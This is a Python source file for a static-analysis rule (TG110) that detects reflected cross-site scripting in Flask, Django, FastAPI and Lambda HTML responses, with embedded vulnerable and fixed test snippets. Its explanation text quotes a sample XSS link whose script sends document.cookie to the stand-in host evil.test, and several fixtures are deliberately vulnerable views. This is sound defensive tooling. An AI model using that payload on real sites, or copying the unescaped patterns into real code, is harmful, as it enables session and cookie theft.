"""TG110: an HTTP response whose HTML body carries unescaped user input."""

from __future__ import annotations

import ast
from typing import Callable

from tabguard.engine.rule import Invalid, Rule
from tabguard.engine.types import Related
from tabguard.rules.injection import last_names
from tabguard.rules.injection._html import (
    FLASK_RENDER,
    HTML_ALWAYS,
    HTML_RESPONSES,
    TYPE_KEYWORDS,
    escape_fix,
    is_html_response,
    proxy_html_body,
    returns_html,
    unescaped_template,
)
from tabguard.rules.injection._strings import built_string, is_string_building, raised
from tabguard.rules.injection._template_files import AUTOESCAPE_OFF, DJANGO_RENDER, MARKED_SAFE, unescaped_variables

# Flask renders an inline template with auto-escaping on; the template itself can switch it off.
_INLINE_RENDER = frozenset({"flask.render_template_string", "flask.templating.render_template_string"})


_MAKE_RESPONSE = frozenset({"flask.make_response", "quart.make_response"})


def _json_body(body: ast.expr | None, ctx) -> bool:
    if isinstance(body, (ast.Dict, ast.List, ast.DictComp, ast.ListComp)):
        return True
    return isinstance(body, ast.Call) and ctx.call_name(body) in ("dict", "list", "builtins.dict", "builtins.list")


def _declared_type(call: ast.Call, ctx) -> str | None:
    for name in TYPE_KEYWORDS:
        keyword = ctx.keyword(call, name)
        if keyword is not None:
            value = ctx.constant_value(keyword.value)
            return value if isinstance(value, str) else "unknown"
    return None


class HtmlResponseXss(Rule):
    id = "TG110"
    name = "reflected-xss-response"
    severity = "high"
    confidence = "medium"
    raises_when_tainted = True
    cwe = (79, 80)
    owasp = "A05:2025"
    message = "HTML response built from user input ({source}) without escaping"
    placeholders = {"source": "request data"}
    aliases = ()
    call_names = last_names(HTML_RESPONSES | FLASK_RENDER | _INLINE_RENDER | set(DJANGO_RENDER))
    what = "The response body is HTML and includes {source} as written, bypassing template auto-escaping."
    why = (
        "A link such as `/hello?name=<script>fetch('//evil.test?c='+document.cookie)</script>` makes the "
        "page run the attacker's script in the victim's session (reflected XSS): it reads the page, "
        "acts as the user and steals non-HttpOnly cookies. Flask sends a returned string as `text/html`, "
        "as does Django's `HttpResponse`. A template that marks a variable `|safe` (or turns autoescape "
        "off) does the same to whatever the view passes for it: the template file beside the view is read "
        "to see which variables it shows unescaped."
    )
    how = (
        "Render through a template with auto-escaping (`render_template`, Django templates), escape each "
        "value with `markupsafe.escape` / `html.escape`, or return JSON (`jsonify`) or `text/plain`."
    )
    example = 'return render_template("hello.html", name=name)\nreturn f"<h1>Hello {escape(name)}</h1>"'
    fix_safety = (
        "Unsafe: each value from user input spliced into the HTML (f-string, `+`, `%`, `.format`, inline "
        "or in a local built earlier) is wrapped in `html.escape(str(...))`; text containing `<`, `&` or "
        "quotes now shows literally. A response built another way gets no rewrite: render a template."
    )
    references = (
        "https://cwe.mitre.org/data/definitions/79.html",
        "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
        "https://flask.palletsprojects.com/en/stable/security/#cross-site-scripting-xss",
    )
    VALID = (
        # Escaped by a helper of the module that replaces the markup characters with entities.
        "from flask import Flask, request\napp = Flask(__name__)\ndef escape_html(text):\n"
        "    return text.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')\n"
        "@app.route('/hi')\ndef hi():\n    name = request.args.get('name', '')\n"
        "    return f'<h1>Hello {escape_html(name)}</h1>'\n",
        # Only the code's own markup is marked safe; the request value stays escaped.
        "from flask import request, render_template_string\nfrom markupsafe import Markup\n@app.route('/hi')\ndef hi():\n"
        "    return render_template_string('<p>{{ name }}</p>{{ footer|safe }}', name=request.args['name'],\n"
        "                                  footer=Markup('<hr>'))\n",
        "from flask import Flask, request\nfrom markupsafe import escape\napp = Flask(__name__)\n"
        '@app.route("/hi")\ndef hi():\n    return f"<h1>Hello {escape(request.args[\'name\'])}</h1>"\n',
        'from flask import Flask, request, jsonify\napp = Flask(__name__)\n@app.route("/hi")\ndef hi():\n'
        '    return jsonify(name=request.args["name"])\n',
        'from flask import Flask, request\napp = Flask(__name__)\n@app.route("/d")\ndef d():\n'
        "    data = request.get_json()\n    return data\n",
        "import json\ndef handler(event, context):\n"
        '    return {"statusCode": 200, "headers": {"Content-Type": "application/json"}, "body": json.dumps(event["body"])}\n',
        'from flask import Flask, request\nfrom markupsafe import escape\napp = Flask(__name__)\n@app.route("/hi")\ndef hi():\n'
        '    page = "<h1>Hello, %s</h1>" % escape(request.args.get("name"))\n    return page\n',
        # a dict or list given to make_response is sent as JSON
        "from flask import make_response, request\ndef f():\n    return make_response({'headers': dict(request.headers)})\n",
        "from quart import make_response, request\nasync def f():\n    return await make_response(dict(request.args), 200)\n",
        "from django.http import HttpResponse\ndef v(request):\n"
        '    return HttpResponse(request.GET["q"], content_type="text/plain")\n',
        'from fastapi import FastAPI\napp = FastAPI()\n@app.get("/hi")\ndef hi(name: str):\n    return {"msg": f"Hello {name}"}\n',
        'from flask import Flask, render_template, request\napp = Flask(__name__)\n@app.route("/n")\ndef n():\n'
        '    return render_template("note.html", body=request.args["body"])\n',
        # a rendered template is its own text with the context filled in, not the name it was found by
        "from django.http import HttpResponse\nfrom django.template import engines\n"
        "def find_template(name):\n    for engine in engines.all():\n        return engine.get_template(name)\n"
        "def page(request, template_name):\n    template = find_template(template_name)\n"
        '    return HttpResponse(template.render({"user": request.user}, request))\n',
    )
    INVALID = (
        # Removing a word is no escape: `<img onerror=...>` passes.
        Invalid(
            "from flask import Flask, request\napp = Flask(__name__)\n@app.route('/hi')\ndef hi():\n"
            "    name = request.args.get('name', '')\n"
            '    return f\'<h1>Hello {name.replace("script", "")}</h1>\'\n',
            "import html\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/hi')\ndef hi():\n"
            "    name = request.args.get('name', '')\n"
            '    return f\'<h1>Hello {html.escape(str(name.replace("script", "")))}</h1>\'\n',
        ),
        # A local named `html` hides the module: the rewrite imports the function itself.
        Invalid(
            "from flask import request\n@app.route('/hi')\ndef hi():\n    name = request.args.get('name', '')\n"
            "    html = f'<h1>Hello {name}</h1>'\n    return html\n",
            "from html import escape\nfrom flask import request\n@app.route('/hi')\ndef hi():\n"
            "    name = request.args.get('name', '')\n    html = f'<h1>Hello {escape(str(name))}</h1>'\n    return html\n",
        ),
        # An inline template that opts a request value out of escaping.
        Invalid(
            "from flask import request, render_template_string\n@app.route('/hi')\ndef hi():\n"
            "    name = request.args.get('name', '')\n"
            "    return render_template_string('<p>Hello {{ name|safe }}</p>', name=name)\n",
            message="marks it safe",
        ),
        Invalid(
            "from flask import request, render_template_string\nPAGE = '{% autoescape false %}<p>{{ bio }}</p>{% endautoescape %}'\n"
            "@app.route('/bio')\ndef bio():\n    return render_template_string(PAGE, bio=request.form['bio'])\n",
            message="autoescape false",
        ),
        Invalid(
            'from flask import Flask, request\napp = Flask(__name__)\n@app.route("/hi")\ndef hi():\n'
            '    name = request.args.get("name", "")\n    return f"<h1>Hello {name}</h1>"\n',
            (
                'import html\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route("/hi")\n'
                'def hi():\n    name = request.args.get("name", "")\n'
                '    return f"<h1>Hello {html.escape(str(name))}</h1>"\n'
            ),
        ),
        Invalid(
            "from django.http import HttpResponse\ndef search(request):\n"
            '    return HttpResponse("<p>No results for " + request.GET["q"] + "</p>")\n',
            (
                "import html\nfrom django.http import HttpResponse\ndef search(request):\n"
                '    return HttpResponse("<p>No results for " + html.escape(str(request.GET["q"])) + "</p>")\n'
            ),
        ),
        Invalid(
            "from fastapi.responses import HTMLResponse\nfrom fastapi import FastAPI\napp = FastAPI()\n"
            '@app.get("/p/{slug}")\ndef page(slug: str):\n    return HTMLResponse(f"<h2>{slug}</h2>")\n',
            (
                "import html\nfrom fastapi.responses import HTMLResponse\nfrom fastapi import FastAPI\n"
                'app = FastAPI()\n@app.get("/p/{slug}")\ndef page(slug: str):\n'
                '    return HTMLResponse(f"<h2>{html.escape(str(slug))}</h2>")\n'
            ),
        ),
        # the same dict made into text is sent as HTML
        Invalid(
            "from flask import make_response, request\ndef f():\n    return make_response(str(dict(request.args)))\n",
            "import html\nfrom flask import make_response, request\ndef f():\n"
            "    return make_response(html.escape(str(str(dict(request.args)))))\n",
        ),
        Invalid(
            'from flask import make_response, request\ndef f():\n    return make_response(request.args["msg"])\n',
            (
                "import html\nfrom flask import make_response, request\ndef f():\n"
                '    return make_response(html.escape(str(request.args["msg"])))\n'
            ),
        ),
        Invalid(
            "from django.http import HttpResponse\nfrom django.template import engines\n"
            "def find_template(name):\n    for engine in engines.all():\n        return engine.get_template(name)\n"
            "def page(request, template_name):\n    body = find_template(template_name).render({}, request)\n"
            '    return HttpResponse(body + "<p>" + request.GET["note"] + "</p>")\n',
            (
                "import html\nfrom django.http import HttpResponse\nfrom django.template import engines\n"
                "def find_template(name):\n    for engine in engines.all():\n        return engine.get_template(name)\n"
                "def page(request, template_name):\n    body = find_template(template_name).render({}, request)\n"
                '    return HttpResponse(body + "<p>" + html.escape(str(request.GET["note"])) + "</p>")\n'
            ),
        ),
        Invalid(
            "from django.http import HttpResponseBadRequest\ndef v(request):\n"
            '    return HttpResponseBadRequest("Unknown user {}".format(request.GET["user"]))\n',
            (
                "import html\nfrom django.http import HttpResponseBadRequest\ndef v(request):\n"
                '    return HttpResponseBadRequest("Unknown user {}".format(html.escape(str(request.GET["user"]))))\n'
            ),
        ),
        Invalid(
            'from flask import Flask, render_template, request\napp = Flask(__name__)\n@app.route("/n")\ndef n():\n'
            '    return render_template("note.txt", body=request.args["body"])\n',
            (
                "import html\nfrom flask import Flask, render_template, request\napp = Flask(__name__)\n"
                '@app.route("/n")\ndef n():\n'
                '    return render_template("note.txt", body=html.escape(str(request.args["body"])))\n'
            ),
        ),
        Invalid(
            'from flask import Flask, request\napp = Flask(__name__)\n@app.route("/hi")\ndef hi():\n'
            '    page = "<h1>Hello, %s</h1>" % request.args.get("name")\n    page += "<p>Welcome</p>"\n    return page\n',
            (
                'import html\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route("/hi")\n'
                'def hi():\n    page = "<h1>Hello, %s</h1>" % html.escape(str(request.args.get("name")))\n'
                '    page += "<p>Welcome</p>"\n    return page\n'
            ),
        ),
        Invalid(
            'def handler(event, context):\n    page = "<p>Hi " + event["queryStringParameters"]["name"] + "</p>"\n'
            '    return {"statusCode": 200, "headers": {"Content-Type": "text/html"}, "body": page}\n',
            (
                "import html\ndef handler(event, context):\n"
                '    page = "<p>Hi " + html.escape(str(event["queryStringParameters"]["name"])) + "</p>"\n'
                '    return {"statusCode": 200, "headers": {"Content-Type": "text/html"}, "body": page}\n'
            ),
        ),
    )

    def visit_Call(self, node: ast.Call, ctx) -> None:
        callee = ctx.call_name(node) or ""
        if callee in FLASK_RENDER or callee in DJANGO_RENDER:
            self._check_template_file(node, callee, ctx)
            if callee in FLASK_RENDER:
                self._check_unescaped_template(node, ctx)
            return
        if callee in _INLINE_RENDER:
            self._check_marked_safe(node, ctx)
            return
        if not is_html_response(callee):
            return
        declared = _declared_type(node, ctx)
        if callee not in HTML_ALWAYS and declared is not None and "html" not in declared:
            return
        body = ctx.argument(node, 0, "content") or ctx.argument(node, 0, "response")
        if callee in _MAKE_RESPONSE and _json_body(body, ctx):
            return  # `make_response({...})`: Flask and Quart send a dict or list as JSON
        self._check(body, ctx)

    def visit_Dict(self, node: ast.Dict, ctx) -> None:
        body = proxy_html_body(node, ctx)
        if body is not None:
            self._check(body, ctx)

    def visit_Return(self, node: ast.Return, ctx) -> None:
        func = ctx.function
        if node.value is None or func is None or not returns_html(func, ctx):
            return
        if is_string_building(node.value, ctx):
            self._check(node.value, ctx)
        elif isinstance(node.value, ast.Name):
            # `page = "<h1>%s</h1>" % name` ... `return page`: a local the function built as a string.
            built = built_string(node.value, ctx)
            if built is not None:
                self._check(node.value, ctx, related=(Related(ctx.span(built), "the HTML is built here"),))

    def _check(self, body: ast.expr | None, ctx, related: tuple[Related, ...] = ()) -> None:
        source = ctx.taint(body)
        if source is not None:
            ctx.report(
                self,
                body,
                details={"source": source.label},
                source=source,
                related=related,
                severity=raised(self, source),
                fix=escape_fix(ctx, body),
            )

    def _check_marked_safe(self, node: ast.Call, ctx) -> None:
        """`render_template_string("<p>{{ name|safe }}</p>", name=...)`: the template opts the value out
        of escaping (`|safe`, `{% autoescape false %}`), so user input passed for it is rendered as HTML.
        A template built from input is TG108's finding."""
        text = ctx.constant_value(node.args[0]) if node.args else None
        if not isinstance(text, str):
            return
        off = AUTOESCAPE_OFF.search(text) is not None
        marked = set(MARKED_SAFE.findall(text))
        chosen = [k for k in node.keywords if k.arg is not None and (off or k.arg in marked)]
        self._first_tainted(
            ctx,
            chosen,
            lambda k: (
                "the template marks it safe with "
                + ("`{% autoescape false %}`" if off else f"`{{{{ {k.arg}|safe }}}}`")
            ),
        )

    def _check_template_file(self, node: ast.Call, callee: str, ctx) -> None:
        """`render(request, "search.html", {"q": q})` where search.html shows `{{ q|safe }}` (or turns
        autoescape off): the template file opts the value out of escaping."""
        found = unescaped_variables(node, callee, ctx)
        if found is None:
            return
        off, chosen = found
        self._first_tainted(
            ctx,
            chosen,
            lambda k: (
                "its template marks it safe with " + ("`{% autoescape off %}`" if off else f"`{{{{ {k.arg}|safe }}}}`")
            ),
        )

    def _check_unescaped_template(self, node: ast.Call, ctx) -> None:
        """Flask auto-escapes only templates named `.html`, `.htm`, `.xml`, `.xhtml` or `.svg`."""
        name = unescaped_template(node, ctx)
        if name is None or not returns_html(ctx.function, ctx):
            return
        self._first_tainted(ctx, node.keywords, lambda _: f"Flask does not auto-escape `{name}`", fix=True)

    def _first_tainted(
        self, ctx, keywords: list[ast.keyword], why: Callable[[ast.keyword], str], fix: bool = False
    ) -> None:
        """Report the first of `keywords` (template variables) that carries user input, rendered
        unescaped for the reason `why`; with `fix`, offer to escape it."""
        for keyword in keywords:
            source = ctx.taint(keyword.value)
            if source is not None:
                ctx.report(
                    self,
                    keyword.value,
                    details={"source": source.label},
                    source=source,
                    message=f"User input ({source.label}) rendered unescaped: {why(keyword)}",
                    fix=escape_fix(ctx, keyword.value) if fix else None,
                )
                return
